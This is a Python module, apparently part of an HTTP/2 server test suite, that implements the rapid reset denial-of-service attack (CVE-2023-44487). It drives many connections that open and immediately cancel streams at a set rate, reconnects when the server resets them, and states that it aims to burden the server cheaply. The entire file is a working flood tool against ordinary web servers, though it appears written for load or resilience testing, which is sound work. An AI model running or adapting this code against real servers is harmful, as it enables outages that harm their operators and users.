"""Clients of HTTP/2 that take their requests back (rapid reset, CVE-2023-44487). One thread sends for all of them, with bytes that were
made before: they are to cost the server something, and the machine little."""

from __future__ import annotations

import socket
import threading
import time
from dataclasses import dataclass, field

from http2_cases import CANCEL, HEADERS, RST_STREAM, SETTINGS
from http2_wire import PREFACE, literal, raw, request

COMPLETE = 0x5
# Between the end of a connection and the next one, in seconds.
PAUSE = 0.2


@dataclass
class Attacker:
    """One client. `late`: it takes a request back when it sends the next one, and not in the same write."""

    late: bool
    socket: socket.socket | None = None
    number: int = 1
    back_at: float = 0.0


@dataclass
class Attack:
    """So many clients, each with so many requests a second, from `with` to its end."""

    address: tuple[str, int]
    clients: int
    rate: float
    late: int = 0
    sent: int = 0
    ended: int = 0
    over: threading.Event = field(default_factory=threading.Event)

    def __enter__(self) -> Attack:
        self.block = literal(request("/tiny"))
        self.attackers = [Attacker(late=number < self.late) for number in range(self.clients)]
        self.thread = threading.Thread(target=self.run)
        self.thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self.over.set()
        self.thread.join(60)
        for attacker in self.attackers:
            if attacker.socket:
                attacker.socket.close()

    def run(self) -> None:
        due = time.monotonic()
        while not self.over.is_set():
            for attacker in self.attackers:
                self.turn(attacker)
            due = max(due + 1 / self.rate, time.monotonic() - 1 / self.rate)
            self.over.wait(max(0.0, due - time.monotonic()))

    def turn(self, one: Attacker) -> None:
        """The next request of a client."""
        try:
            if one.socket is None:
                if time.monotonic() < one.back_at:
                    return
                one.socket, one.number = socket.create_connection(self.address, 10), 1
                one.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                one.socket.sendall(PREFACE + raw(SETTINGS, 0, 0, b""))
                one.socket.setblocking(False)
            number, back = one.number, CANCEL.to_bytes(4, "big")
            head = raw(HEADERS, COMPLETE, number, self.block)
            if not one.late:
                one.socket.send(head + raw(RST_STREAM, 0, number, back))
            elif number == 1:
                one.socket.send(head)
            else:
                one.socket.send(raw(RST_STREAM, 0, number - 2, back) + head)
            one.number += 2
            self.sent += 1
            if number % 16 == 1 and not one.socket.recv(1 << 16):
                raise ConnectionResetError
        except BlockingIOError:
            # There was nothing to read, or it reads nothing.
            pass
        except OSError:
            if one.socket:
                one.socket.close()
            one.socket, one.back_at = None, time.monotonic() + PAUSE
            self.ended += 1
